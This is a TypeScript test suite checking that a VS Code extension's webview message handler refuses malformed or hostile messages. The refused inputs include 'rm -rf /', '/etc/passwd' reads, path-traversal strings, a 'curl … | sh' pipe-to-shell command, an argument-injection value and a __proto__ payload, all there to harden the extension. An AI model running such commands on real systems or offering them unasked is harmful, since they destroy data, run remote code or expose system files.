import { strict as assert } from 'node:assert';
import * as path from 'node:path';
import { type PanelFacts, parseWebviewMessage, planWebviewAction } from '../../../src/vscode/webviewMessage';

describe('webview messages', () => {
  it('accepts exactly the protocol messages', () => {
    assert.deepEqual(parseWebviewMessage({ type: 'ready' }), { type: 'ready' });
    assert.deepEqual(parseWebviewMessage({ type: 'openHandler', handler: 'GET /x' }), { type: 'openHandler', handler: 'GET /x' });
    assert.deepEqual(parseWebviewMessage({ type: 'updateBaseline' }), { type: 'updateBaseline' });
  });

  it('refuses anything else: unknown types, extra fields (a path, a command), wrong shapes', () => {
    for (const bad of [
      null,
      'ready',
      { type: 'runCommand', command: 'rm -rf /' },
      { type: 'updateBaseline', path: '/etc/passwd' },
      { type: 'openHandler' },
      { type: 'openHandler', handler: '' },
      { type: 'openHandler', handler: 'x'.repeat(5000) },
      { type: 'openHandler', handler: 42 },
      { type: 'exportReport', file: '../../x.md' },
    ]) {
      assert.equal(parseWebviewMessage(bad), undefined, JSON.stringify(bad)?.slice(0, 60));
    }
  });
});

describe('webview messages -> actions (planWebviewAction)', () => {
  const root = path.resolve('/work/ws');
  const facts = (over: Partial<PanelFacts> = {}): PanelFacts => ({
    root,
    baselineFile: path.join(root, 'perf/baseline.json'),
    configured: ['locust', 'decide'],
    shown: ['locust'],
    locate: (h) =>
      ({
        'GET /x': { file: 'src/server.js', line: 5, column: 0 },
        'GET /abs': { file: path.join(root, 'src/a.js'), line: 1, column: 2 },
        'GET /up': { file: '../outside/server.js', line: 1, column: 0 },
        'GET /etc': { file: '/etc/passwd', line: 0, column: 0 },
        'GET /sneaky': { file: 'src/../../ws-other/x.js', line: 0, column: 0 },
      })[h],
    ...over,
  });

  it('"Update baseline" writes the config\'s baseline path and nothing a message names', () => {
    assert.deepEqual(planWebviewAction({ type: 'updateBaseline' }, facts()), { kind: 'writeBaseline', file: path.join(root, 'perf/baseline.json') });
    for (const bad of [
      { type: 'updateBaseline', path: '/etc/passwd' },
      { type: 'updateBaseline', file: '../../x.json' },
      { type: 'updateBaseline', baseline: 'perf/other.json' },
      { type: 'updateBaseline', target: { fsPath: '/tmp/x' } },
    ]) {
      assert.equal(planWebviewAction(bad, facts()).kind, 'refuse', JSON.stringify(bad));
    }
    // A baseline path outside the folder (however it got there) is not written.
    assert.equal(planWebviewAction({ type: 'updateBaseline' }, facts({ baselineFile: path.resolve(root, '../elsewhere/baseline.json') })).kind, 'refuse');
    assert.equal(planWebviewAction({ type: 'updateBaseline' }, facts({ baselineFile: root })).kind, 'refuse');
    assert.deepEqual(planWebviewAction({ type: 'updateBaseline' }, facts({ baselineFile: new Error('perf-budgets.json: baseline path "../x" is outside the workspace folder') })), {
      kind: 'refuse',
      reason: 'perf-budgets.json: baseline path "../x" is outside the workspace folder',
    });
  });

  it('"openHandler" opens only a located handler inside the workspace folder', () => {
    assert.deepEqual(planWebviewAction({ type: 'openHandler', handler: 'GET /x' }, facts()), { kind: 'open', file: path.join(root, 'src/server.js'), line: 5, column: 0 });
    assert.deepEqual(planWebviewAction({ type: 'openHandler', handler: 'GET /abs' }, facts()), { kind: 'open', file: path.join(root, 'src/a.js'), line: 1, column: 2 });
    for (const handler of ['GET /up', 'GET /etc', 'GET /sneaky', 'GET /unknown', '../../etc/passwd', '/etc/passwd']) {
      assert.equal(planWebviewAction({ type: 'openHandler', handler }, facts()).kind, 'refuse', handler);
    }
    // A file named in the message is never used.
    assert.equal(planWebviewAction({ type: 'openHandler', handler: 'GET /x', file: '/etc/passwd' }, facts()).kind, 'refuse');
    assert.equal(planWebviewAction({ type: 'openHandler', handler: 'GET /x', uri: 'file:///etc/passwd', line: 1 }, facts()).kind, 'refuse');
  });

  it('"Run again" runs configured benchmarks only: the shown ones, else all; never one a message names', () => {
    assert.deepEqual(planWebviewAction({ type: 'runAgain' }, facts()), { kind: 'run', benchmarks: ['locust'] });
    assert.deepEqual(planWebviewAction({ type: 'runAgain' }, facts({ shown: ['decide', 'locust'] })), { kind: 'run', benchmarks: ['locust', 'decide'] });
    // Results from a benchmark no longer configured (or results without one): run what is configured.
    assert.deepEqual(planWebviewAction({ type: 'runAgain' }, facts({ shown: ['removed-bench'] })), { kind: 'run', benchmarks: ['locust', 'decide'] });
    assert.deepEqual(planWebviewAction({ type: 'runAgain' }, facts({ shown: [] })), { kind: 'run', benchmarks: ['locust', 'decide'] });
    assert.equal(planWebviewAction({ type: 'runAgain' }, facts({ configured: [], shown: ['locust'] })).kind, 'refuse');
    for (const bad of [
      { type: 'runAgain', benchmark: 'evil' },
      { type: 'runAgain', benchmarks: ['evil'] },
      { type: 'runAgain', command: 'curl http://example.invalid | sh' },
      { type: 'runBenchmark', name: 'locust' },
    ]) {
      assert.equal(planWebviewAction(bad, facts()).kind, 'refuse', JSON.stringify(bad));
    }
  });

  it('the other messages map one to one; anything malformed is refused', () => {
    assert.deepEqual(planWebviewAction({ type: 'ready' }, facts()), { kind: 'refresh' });
    assert.deepEqual(planWebviewAction({ type: 'exportReport' }, facts()), { kind: 'export' });
    assert.deepEqual(planWebviewAction({ type: 'pickBaseline' }, facts()), { kind: 'pickBaseline' });
    assert.equal(planWebviewAction({ type: 'pickBaseline', ref: '--output=/tmp/x' }, facts()).kind, 'refuse');
    assert.equal(planWebviewAction({ type: '__proto__' }, facts()).kind, 'refuse');
    // An own "__proto__" key is an extra field like any other.
    assert.equal(planWebviewAction(JSON.parse('{"type":"ready","__proto__":{"x":1}}'), facts()).kind, 'refuse');
  });

  it('"Add budget" adds only a series the folder lists as unclaimed', () => {
    const unclaimed = ['GET /api/search', 'GET /api/metrics'];
    assert.deepEqual(planWebviewAction({ type: 'addBudget', series: 'GET /api/search' }, facts({ unclaimed })), { kind: 'addBudget', series: 'GET /api/search' });
    assert.deepEqual(planWebviewAction({ type: 'addBudget', series: 'GET /api/items' }, facts({ unclaimed })), { kind: 'refuse', reason: 'that series is not one no budget claims' });
    assert.equal(planWebviewAction({ type: 'addBudget', series: 'GET /api/search' }, facts()).kind, 'refuse');
    for (const bad of [{ type: 'addBudget' }, { type: 'addBudget', series: '' }, { type: 'addBudget', series: 'x'.repeat(3000) }, { type: 'addBudget', series: 'GET /api/search', budget: { p95: '1ms' } }]) {
      assert.equal(planWebviewAction(bad, facts({ unclaimed: [...unclaimed, 'x'.repeat(3000)] })).kind, 'refuse', JSON.stringify(bad).slice(0, 60));
    }
  });
});
